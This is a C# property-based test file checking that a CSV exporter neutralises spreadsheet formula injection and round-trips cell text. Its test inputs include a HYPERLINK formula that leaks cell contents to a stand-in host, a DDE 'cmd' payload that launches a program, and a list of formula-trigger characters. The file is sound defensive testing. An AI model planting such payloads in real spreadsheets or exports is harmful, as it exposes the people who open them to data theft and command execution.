using FluentAssertions;
using FsCheck;
using FsCheck.Fluent;
using FsCheck.Xunit;
using Partnership.Rules.ActionPlans;
using Partnership.Rules.Tests;
using Xunit;

namespace Partnership.Rules.Documents.Tests;

/// <summary>No cell of a CSV file is a live formula in a spreadsheet, and each reads back to the text it was.</summary>
public sealed class FormulaTests
{
    private const string Signs = "=+-@\t\r\n\uFF1D\uFF0B\uFF0D\uFF20";

    private static readonly Gen<string> Text = Gen.ArrayOf(Gen.Elements("=", "+", "-", "@", "'", " ", "\uFF1D", "\"", ",", ";", "1", "cmd", "|", "A1", "\n", "x"), 6).Select(string.Concat);

    [Theory]
    [InlineData("=HYPERLINK(\"http://x.example/?\"&A1,\"Click\")")]
    [InlineData("+1+cmd|' /C calc'!A0")]
    [InlineData("-1+1")]
    [InlineData("@SUM(1+1)")]
    [InlineData("'=1+1")]
    [InlineData("''=1+1")]
    [InlineData("\uFF1D1+1")]
    [InlineData("'tis done")]
    [InlineData("It's done")]
    [InlineData("costs = \u00A35")]
    public void Wherever_it_stands_it_is_no_formula_and_comes_back(string text) => Check(text);

    [Property]
    public Property Whatever_the_text_it_is_no_formula_and_comes_back() => Law.ForAll(Text, Check);

    private static void Check(string text)
    {
        var read = Read.Text(Table(["Code", "Area for development", "Action", "Update", "Rating note", text.Length == 0 ? "More" : $"{text} more"], ["1.1", text, text, text, text, text]));

        var written = Written(read.Plan);

        Cells(written).Should().OnlyContain(cell => !IsLive(cell));
        Read.Text(written).Plan.Told().Should().Equal(read.Plan.Told());
    }

    private static bool IsLive(string cell) => cell.Length > 0 && (Signs.Contains(cell[0]) || (cell.TrimStart() is { Length: > 0 } rest && Signs.Contains(rest[0])));

    private static string Table(params string[][] rows) =>
        string.Concat(rows.Select(row => string.Join(",", row.Select(cell => $"\"{cell.Replace("\"", "\"\"", StringComparison.Ordinal)}\"")) + "\r\n"));

    private static string Written(ActionPlan plan)
    {
        var writer = new StringWriter();
        PlanCsv.Write(plan, writer);
        return writer.ToString();
    }

    /// <summary>The cells as a spreadsheet takes them.</summary>
    private static IEnumerable<string> Cells(string csv)
    {
        using var reader = CsvHelper.CsvReader.FromText(csv, new CsvHelper.CsvReaderOptions { HasHeader = false, Separator = ',' });
        while (reader.Read())
        {
            for (var place = 0; place < reader.FieldCount; place++)
            {
                yield return reader.GetString(place);
            }
        }
    }
}
